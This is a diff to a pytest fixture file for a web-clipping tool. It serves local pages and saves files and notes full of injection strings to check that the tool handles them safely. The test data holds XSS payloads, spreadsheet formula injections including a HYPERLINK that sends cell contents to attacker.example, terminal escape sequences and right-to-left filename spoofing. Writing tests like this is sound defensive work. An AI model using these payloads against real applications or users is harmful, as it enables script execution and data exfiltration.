@@ -6,13 +6,22 @@ import shutil
 import subprocess
 import sys
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from contextlib import contextmanager
+from dataclasses import dataclass, field, replace
+from html import escape
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from itertools import cycle
 from pathlib import Path
-from threading import Event
+from threading import Event, Thread
 from time import monotonic
 from typing import Any
 
 import pytest
+
+from clipper.desk.clipped import Order
+from clipper.desk.desk import Desk
+from clipper.desk.pools import as_done
+from clipper.desk.settings import Settings
 
 SECONDS = 120
 
@@ -132,3 +141,114 @@ def keyring(clipper: Clipper, tmp_path: Path) -> Iterator[Clipper]:
         clipper.environment["DBUS_SESSION_BUS_ADDRESS"] = session.stdout.readline().strip()
         yield clipper
         session.stdin.close()
+
+
+HOSTILE_WORDS = {
+    "markup": "\"'><img src=x onerror=alert(1)></title></script><script>alert(1)</script>",
+    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
+    "formula": "=cmd|' /C calc'!A0",
+    "plus": '+HYPERLINK("http://attacker.example/?x=",A1)',
+    "minus": "-2+3+cmd|'/C calc'!A0",
+    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1\r\n=2+2",
+    "terminal": "Red \x1b[31m\x9b2J\x1b]0;me\x07\x00\x7f safe\u202egpj.exe\u200b\u2066\ufeff",
+    "markdown": "[a](javascript:alert(1)) ![p](http://tracker.example/p.png) <b onclick=alert(1)>",
+}  # fmt: skip
+"""What a page, a file or a person may call a thing, by what it attacks."""
+
+_FIELDS = {"deployment": "actor", "sanction": "target", "place": "entity"}
+_QUOTE = "soldiers had reached the border near Kursk"
+_HOSTILE = Path(__file__).parent / "hostile"
+
+
+@dataclass
+class Hostile:
+    """A library full of attacks: its folder, and the bodies that a site sent, by path."""
+
+    folder: Path
+    sent: dict[str, bytes] = field(default_factory=dict)
+    headers: dict[str, dict[str, str]] = field(default_factory=dict)
+
+
+def _page(words: str, vector: str = "", number: str = "around 10,000") -> bytes:
+    """Return a page that carries words wherever a page can, and an attack in its body."""
+    page = (_HOSTILE / "page.html").read_text("utf-8")
+    page = page.replace("{{words}}", escape(words)).replace("{{number}}", number)
+    return page.replace("{{json}}", json.dumps(words)).replace("{{vector}}", vector).encode()
+
+
+@contextmanager
+def _serving(hostile: Hostile) -> Iterator[str]:
+    class Answering(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = hostile.sent.get(self.path)
+            self.send_response(404 if body is None else 200 if body else 302)
+            for name, value in hostile.headers.get(self.path, {}).items():
+                self.send_header(name, value)
+            self.end_headers()
+            self.wfile.write(body or b"no")
+
+        def log_message(self, *_: object) -> None:
+            """Keep quiet."""
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Answering)
+    serving = Thread(target=server.serve_forever, args=(0.05,), daemon=True)
+    serving.start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+    serving.join()
+
+
+def _fill(desk: Desk, hostile: Hostile, site: str, beside: Path) -> None:
+    """Clip hostile pages, and say hostile things of them."""
+    words = tuple(HOSTILE_WORDS.values())
+    vectors = (_HOSTILE / "vectors.txt").read_text("utf-8").splitlines()
+    hostile.sent |= {f"/{name}": _page(said) for name, said in HOSTILE_WORDS.items()}
+    hostile.sent |= {f"/{n}": _page(f"Page {n}", one) for n, one in enumerate(vectors)}
+    hostile.sent |= {"/coding": b"x", "/away": b""}
+    hostile.headers |= {
+        "/coding": {"Content-Encoding": "<img/src=x/onerror=alert(1)>"},
+        "/away": {"Location": "javascript:<img/src=x/onerror=alert(1)>"},
+    }
+    order = Order(tuple(site + path for path in (*hostile.sent, "/%3Cimg%20src=x%3E")), words)
+    numbers = {one.url: one.id for one in as_done(desk.clipping.clip(order).result())}
+    hostile.sent["/markup"] = _page(words[0], "", "around 12,000")
+    list(as_done(desk.clipping.clip(Order((f"{site}/markup",), again=True)).result()))
+    saved = beside / "\"'><img src=x onerror=alert(1)>\u202egpj.&lt;b&gt;\x1b[31m.html"
+    saved.write_bytes(_page(words[0]))
+    given = Order(("https://good.example/\"onmouseenter='alert(1)'",), words)
+    list(as_done(desk.clipping.clip_file(saved, given).result()))
+    for (name, said), kind in zip(HOSTILE_WORDS.items(), cycle(_FIELDS), strict=False):
+        number = numbers[f"{site}/{name}"]
+        desk.organising.set_case([number], said).result()
+        desk.organising.set_note(number, said).result()
+        fields = [(_FIELDS[kind], said)]
+        desk.annotating.add_quote(
+            number, kind, [_QUOTE], fields=fields, note=said, tags=words
+        ).result()
+    desk.organising.retag([number], ["<img src=file:///tmp/x.png>\u202ex"], ()).result()
+    title = escape(escape(words[0]))
+    hostile.sent["/feed"] = f"<rss><channel><title>{title}</title><item/></channel></rss>".encode()
+    desk.following.add(f"{site}/feed", words[0]).result()
+
+
+@pytest.fixture(scope="session")
+def hostile_library(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
+    """A library filled once with all that a page, a file and a person can say against it."""
+    beside = tmp_path_factory.mktemp("hostile")
+    hostile = Hostile(beside / "hostile.clipper")
+    with pytest.MonkeyPatch.context() as patch, _serving(hostile) as site:
+        patch.setenv("HOME", str(beside))
+        for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"):
+            patch.delenv(name, raising=False)
+        with Desk(hostile.folder, Settings()) as desk:
+            _fill(desk, hostile, site, beside)
+    return hostile
+
+
+@pytest.fixture
+def hostile(hostile_library: Hostile, clipper: Clipper) -> Hostile:
+    """The hostile library, of which each test has a copy, where the command line finds it."""
+    shutil.copytree(hostile_library.folder, clipper.folder)
+    return replace(hostile_library, folder=clipper.folder)
